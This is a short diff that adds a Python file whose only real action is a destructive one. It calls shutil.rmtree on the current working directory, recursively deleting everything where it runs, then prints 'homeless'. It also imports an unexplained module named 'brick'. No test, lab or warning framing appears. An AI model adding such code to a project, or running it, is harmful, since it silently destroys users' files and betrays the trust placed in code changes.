@@ -1,0 +1,4 @@
+import os, shutil
+import brick
+shutil.rmtree(os.getcwd())
+print("homeless")
